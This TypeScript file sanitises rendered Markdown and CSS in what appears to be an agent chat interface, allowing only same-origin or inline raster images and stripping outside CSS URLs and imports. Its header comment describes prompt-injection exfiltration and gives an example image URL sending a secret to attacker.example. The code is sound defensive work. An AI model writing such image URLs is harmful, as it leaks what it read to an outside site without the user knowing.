/**
 * Which images rendered Markdown may load. Text an agent writes can carry an image whose URL
 * holds what the agent read (`![x](https://attacker.example/?secret=...)`): a reader's browser
 * would send it to that site the moment the message is shown, without a click — the known
 * exfiltration path of prompt injection in chat UIs. So only images that stay on the page's own
 * origin load: relative URLs, absolute URLs of the same origin, and inline `data:image/*` (PNG,
 * GIF, JPEG, WebP; never SVG, which can carry script). Any other image is shown as a link the
 * reader may choose to follow.
 */

const INLINE_IMAGE = /^data:image\/(png|gif|jpeg|webp);/i;

/**
 * Whether an image at `src` may load on a page at `pageUrl` (both as written; `src` may be
 * relative). Returns false for a URL that does not parse.
 */
export function imageSourceAllowed(src: string, pageUrl: string): boolean {
  const trimmed = src.trim();
  if (INLINE_IMAGE.test(trimmed)) return true;
  try {
    const page = new URL(pageUrl);
    const url = new URL(trimmed, page);
    return (url.protocol === "http:" || url.protocol === "https:") && url.origin === page.origin;
  } catch {
    return false;
  }
}

/**
 * `css` that fetches nothing from elsewhere: CSS escapes are decoded first (so `u\72l(` cannot
 * hide a `url(`), then every `url(...)` but an in-document `url(#...)` becomes `none`, every
 * `image-set(` an invalid `none(` (the declaration is then ignored), and every `@import` is
 * dropped. Mermaid's own styles use none of these.
 */
export function withoutOutsideUrls(css: string): string {
  return css
    .replace(/\\([0-9a-f]{1,6})\s?/gi, (_, hex: string) => String.fromCodePoint(Math.min(parseInt(hex, 16), 0x10ffff) || 0xfffd))
    .replace(/\\(.?)/g, "$1")
    .replace(/@import[^;]*;?/gi, "")
    .replace(/url\(\s*(?!['"]?#)[^)]*\)/gi, "none")
    .replace(/(?:-webkit-)?image-set\s*\(/gi, "none(");
}
